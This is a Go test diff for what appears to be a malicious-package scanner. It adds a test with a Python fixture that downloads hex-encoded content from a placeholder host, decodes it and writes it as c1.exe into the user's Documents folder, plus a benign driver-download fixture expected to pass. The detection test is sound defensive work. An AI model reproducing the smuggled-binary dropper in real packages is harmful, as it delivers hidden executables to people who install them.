@@ -457,3 +457,14 @@ func TestGameAccountStores(t *testing.T) {
 		t.Errorf("launcher profiles read by a mod installer: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestProgramSmuggledAsText(t *testing.T) {
+	r := sdist(t, map[string]string{"p/core.py": "import binascii, getpass, requests\ndef start():\n    b = requests.get('https://example.invalid/x.txt')\n    path = 'C:/Users/' + getpass.getuser() + '/Documents/'\n    with open(path + 'c1.exe', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.encode()))\n"})
+	if r.Verdict == Clean || !hasRule(r, "download-execute", High) {
+		t.Errorf("hex-encoded program downloaded and written: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/driver.py": "import requests\ndef fetch(dest):\n    b = requests.get('https://example.invalid/driver.exe')\n    with open(dest + '/driver.exe', 'wb') as f:\n        f.write(b.content)\n"})
+	if r.Verdict != Clean {
+		t.Errorf("driver download: %s %+v", r.Verdict, r.Findings)
+	}
+}
